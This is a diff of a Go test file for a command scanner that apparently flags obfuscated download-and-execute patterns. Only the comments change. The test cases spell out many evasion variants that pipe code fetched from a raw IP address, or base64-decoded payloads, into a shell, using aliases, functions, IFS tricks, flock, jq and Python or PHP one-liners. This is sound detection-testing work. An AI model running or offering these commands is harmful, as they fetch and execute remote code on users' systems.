@@ -7,13 +7,13 @@ import (
 	"github.com/knack-dev/knack/internal/analysis/scan/internal/commands"
 )
 
-// TestDetours has commands that reach the same end in other ways: names, functions, descriptors,
-// files, other languages and programs that start another one.
+// TestDetours checks commands that reach the same end in roundabout ways: names, functions,
+// descriptors, files, other languages and programs that start another program.
 func TestDetours(t *testing.T) {
 	b := encoded("echo hello")
 	u := "http://45.67.89.10/x"
 	for _, tt := range []struct{ text, want string }{
-		// Names of their own.
+		// Aliases and functions.
 		{"alias x='base64 -d'\necho " + b + " | x | sh", "run-decoded"},
 		{"alias x='curl " + u + " | sh'", "run-fetched-unknown"},
 		{"alias ls='ls -l'\nls | sh", ""},
@@ -23,7 +23,7 @@ func TestDetours(t *testing.T) {
 		{"run() { curl -s \"$1\" | sh; }\nrun " + u, "run-fetched run-fetched-unknown"},
 		{"a() { b; }\nb() { a; }\na | sh", ""},
 		{"get() { curl -s \"$1\"; }\nget " + u + " | jq .", "url-address"},
-		// Words that a shell puts together.
+		// Words that a shell assembles.
 		{"{curl,-s," + u + "}|sh", "run-fetched-unknown"},
 		{"curl${IFS}-s${IFS}" + u + "|sh", "run-fetched-unknown"},
 		{"cu${x}rl -s " + u + " | s${y}h", "run-fetched-unknown"},
@@ -72,7 +72,7 @@ func TestDetours(t *testing.T) {
 		{"curl -LO https://tools.acme-files.net/t.zip\nunzip -P \"$PW\" t.zip; unzip t.zip", ""},
 		{"unzip -P 1234 t.zip", ""},
 		{"bash -c 'curl -so /tmp/x " + u + "'; sh /tmp/x", "run-fetched-unknown url-address"},
-		// Programs that start another one.
+		// Programs that start another program.
 		{"flock /tmp/l sh -c \"$(echo " + b + " | base64 -d)\"", "run-decoded"},
 		{"flock -n /tmp/l -c \"curl " + u + " | sh\"", "run-fetched-unknown"},
 		{"script -qc \"curl " + u + " | sh\" /dev/null", "run-fetched-unknown"},
@@ -91,7 +91,7 @@ func TestDetours(t *testing.T) {
 		{"jq -rn '\"" + b + "\" | @base64d' | sh", "run-decoded"},
 		{"echo '\"" + b + "\"' | jq -r @base64d | sh", "run-decoded"},
 		{"kubectl get secret x -o json | jq -r '.data.p | @base64d'", ""},
-		// Other languages, in one line.
+		// One-liners in other languages.
 		{"python3 -c \"import base64;print(base64.b64decode('" + b + "').decode())\" | sh", "run-decoded"},
 		{"python3 -c \"import urllib.request as u;print(u.urlopen('" + u + "').read().decode())\" | sh", "run-fetched-unknown url-address"},
 		{"python3 -c \"import urllib.request as u;exec(u.urlopen('" + u + "').read())\"", "run-fetched-unknown"},
@@ -142,7 +142,7 @@ func TestDetours(t *testing.T) {
 	}
 }
 
-// TestCodeDetours is TestDetours for Python and JavaScript.
+// TestCodeDetours does the same as TestDetours for Python and JavaScript.
 func TestCodeDetours(t *testing.T) {
 	b, sh := encoded("print(1)"), encoded("echo hello")
 	u := "http://45.67.89.10/x"
@@ -199,7 +199,8 @@ func TestCodeDetours(t *testing.T) {
 	}
 }
 
-// TestLines has files of Windows and of other languages, which are judged line by line.
+// TestLines checks files of Windows and of languages without a reader, which are judged line by
+// line.
 func TestLines(t *testing.T) {
 	u := "http://45.67.89.10/x"
 	enc := encoded(utf16Of("echo hello world"))
@@ -223,7 +224,7 @@ func TestLines(t *testing.T) {
 		{"a.rb", "require 'socket'\ns = TCPSocket.new('db.acme-tools.dev', 44)\nsystem('/bin/sh a.sh')\n", ""},
 		{"a.php", "<?php eval(base64_decode('" + encoded("echo hello world") + "'));\n", "run-decoded"},
 		{"a.php", "<?php $x = base64_decode($y);\necho $x;\n", ""},
-		{"a.rb", "system('curl " + u + " | sh')\n", ""}, // doc/scan.md says so
+		{"a.rb", "system('curl " + u + " | sh')\n", ""}, // a limitation, documented in doc/scan.md
 		{"a.fish", "curl -s " + u + " | sh\n", "run-fetched-unknown"},
 		{"a.txt", "#!/bin/sh\ncurl -s " + u + " | sh\n", "run-fetched-unknown"},
 		{"scripts/run", "curl -s " + u + " | sh\n", "run-fetched-unknown"},
